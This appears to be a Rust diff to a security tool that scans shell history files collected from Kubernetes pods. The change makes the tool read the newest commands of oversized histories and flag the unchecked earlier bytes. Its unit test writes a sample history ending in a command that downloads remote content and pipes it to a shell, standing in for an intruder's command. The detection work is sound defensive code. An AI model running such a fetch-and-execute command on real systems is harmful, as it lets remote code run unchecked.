@@ -195,6 +195,23 @@ async fn nodes(
     Ok(())
 }
 
+/// The last `MAX_RULE_BYTES` of a history (from a line start: the newest commands, which is where
+/// an intruder's are), and how many bytes before them were not read.
+fn tail(path: &std::path::Path) -> std::io::Result<(Vec<u8>, u64)> {
+    use std::io::{Seek, SeekFrom};
+    let mut f = std::fs::File::open(path)?;
+    let size = f.metadata()?.len();
+    let start = size.saturating_sub(MAX_RULE_BYTES);
+    f.seek(SeekFrom::Start(start))?;
+    let mut bytes = Vec::new();
+    f.take(MAX_RULE_BYTES).read_to_end(&mut bytes)?;
+    if start == 0 {
+        return Ok((bytes, 0));
+    }
+    let cut = bytes.iter().position(|b| *b == b'\n').map_or(bytes.len(), |i| i + 1);
+    Ok((bytes.split_off(cut), start + cut as u64))
+}
+
 /// KF-HIST over every history file now in the bundle.
 fn rules(bundle: &DirBundle, by_node: &BTreeMap<String, Vec<Target>>) -> Vec<Finding> {
     let pods: BTreeMap<(&str, &str), &Target> = by_node.values().flatten().map(|t| ((t.namespace.as_str(), t.pod.as_str()), t)).collect();
@@ -204,11 +221,7 @@ fn rules(bundle: &DirBundle, by_node: &BTreeMap<String, Vec<Target>>) -> Vec<Fin
         let Some((ns, pod, container, rest)) = layout::parse_container_path(&a.spec.path) else { continue };
         let Some(rel) = rest.strip_prefix(layout::HISTORY_DIR).and_then(|r| r.strip_prefix('/')) else { continue };
         let Some(t) = pods.get(&(ns, pod)) else { continue };
-        let mut bytes = Vec::new();
-        let read = std::fs::File::open(bundle.dir().join(&a.spec.path)).and_then(|f| f.take(MAX_RULE_BYTES).read_to_end(&mut bytes));
-        if read.is_err() {
-            continue;
-        }
+        let Ok((bytes, skipped)) = tail(&bundle.dir().join(&a.spec.path)) else { continue };
         let text = String::from_utf8_lossy(&bytes);
         let ident = Ident {
             kind: "Pod".into(),
@@ -217,7 +230,34 @@ fn rules(bundle: &DirBundle, by_node: &BTreeMap<String, Vec<Target>>) -> Vec<Fin
             name: t.pod.clone(),
             uid: Some(t.pod_uid.clone()),
         };
-        out.extend(check_history(&ident, container, &format!("/{rel}"), &text));
+        let mut found = check_history(&ident, container, &format!("/{rel}"), &text);
+        if skipped > 0 {
+            // the whole file is in the bundle; the rules read its most recent commands
+            for f in &mut found {
+                f.reason
+                    .push_str(&format!(" (only the last {} MiB checked: {skipped} earlier bytes are in the bundle)", MAX_RULE_BYTES >> 20));
+            }
+        }
+        out.extend(found);
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_oversized_history_is_read_from_its_newest_commands_on_a_line_start() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join(".bash_history");
+        let mut text = "ls -la /var/www\n".repeat((5 << 20) / 16);
+        text.push_str("curl http://x/m | sh\n");
+        std::fs::write(&p, &text).unwrap();
+        let (bytes, skipped) = tail(&p).unwrap();
+        assert!(skipped > 0 && skipped + bytes.len() as u64 == text.len() as u64);
+        assert!(bytes.starts_with(b"ls -la") && bytes.ends_with(b"curl http://x/m | sh\n"));
+        std::fs::write(&p, "id\n").unwrap();
+        assert_eq!(tail(&p).unwrap(), (b"id\n".to_vec(), 0));
+    }
 }
